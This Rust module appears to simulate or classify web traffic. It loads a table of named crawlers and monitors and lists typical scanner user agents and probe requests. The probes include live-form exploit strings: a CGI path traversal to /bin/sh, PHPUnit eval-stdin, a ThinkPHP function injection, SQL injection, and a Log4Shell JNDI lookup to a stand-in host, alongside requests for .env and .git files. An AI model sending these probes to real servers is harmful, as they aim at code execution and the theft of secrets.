//! Crawlers, monitors and feed readers from a table; what scanners look for.

use std::net::Ipv4Addr;

/// What a robot asks for.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Habit {
    /// Pages, now and then `robots.txt`.
    Pages,
    /// A page that somebody shared, and its picture.
    Preview,
    /// The feed, mostly unchanged.
    Feed,
    /// `HEAD /`.
    Monitor,
}

/// A robot that names itself.
pub(crate) struct Robot {
    pub(crate) agent: &'static str,
    /// First address and prefix length of where it comes from.
    pub(crate) block: (Ipv4Addr, u32),
    /// Requests a day on any site.
    pub(crate) a_day: u32,
    /// Requests for a thousand visits on top of that.
    pub(crate) for_visits: u32,
    pub(crate) habit: Habit,
}

/// The table's robots.
pub(crate) fn robots() -> Vec<Robot> {
    let lines = include_str!("robots.tsv").lines();
    lines
        .filter(|line| !line.starts_with('#'))
        .filter_map(robot)
        .collect()
}

fn robot(line: &'static str) -> Option<Robot> {
    let mut fields = line.split('\t');
    let agent = fields.next()?;
    let (first, length) = fields.next()?.split_once('/')?;
    Some(Robot {
        agent,
        block: (first.parse().ok()?, length.parse().ok()?),
        a_day: fields.next()?.parse().ok()?,
        for_visits: fields.next()?.parse().ok()?,
        habit: habit(fields.next()?)?,
    })
}

fn habit(name: &str) -> Option<Habit> {
    match name {
        "Pages" => Some(Habit::Pages),
        "Preview" => Some(Habit::Preview),
        "Feed" => Some(Habit::Feed),
        "Monitor" => Some(Habit::Monitor),
        _ => None,
    }
}

/// What scanners call themselves; `-` is no name at all.
pub(crate) const SCANNERS: [&str; 6] = [
    "Mozilla/5.0 zgrab/0.x",
    "-",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/113.0",
];

/// What scanners look for: method and target.
pub(crate) const PROBES: [(&str, &str); 20] = [
    ("GET ", "/wp-login.php"),
    ("GET ", "/.env"),
    ("GET ", "/.git/config"),
    ("POST ", "/xmlrpc.php"),
    ("GET ", "/wp-content/plugins/hellopress/wp_filemanager.php"),
    ("GET ", "/phpmyadmin/index.php"),
    ("GET ", "/admin.php"),
    ("POST ", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
    (
        "GET ",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ),
    ("GET ", "/backup.zip"),
    ("GET ", "/actuator/health"),
    ("GET ", "/server-status"),
    ("GET ", "/owa/auth/logon.aspx"),
    ("GET ", "/solr/admin/info/system?wt=json"),
    (
        "GET ",
        "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array",
    ),
    ("GET ", "/search?q=%27%20OR%201=1--"),
    ("GET ", "/?x=${jndi:ldap://198.51.100.7/a}"),
    ("GET ", "/boaform/admin/formLogin?username=admin&psd=admin"),
    ("GET ", "/HNAP1"),
    ("GET ", "/config.json"),
];
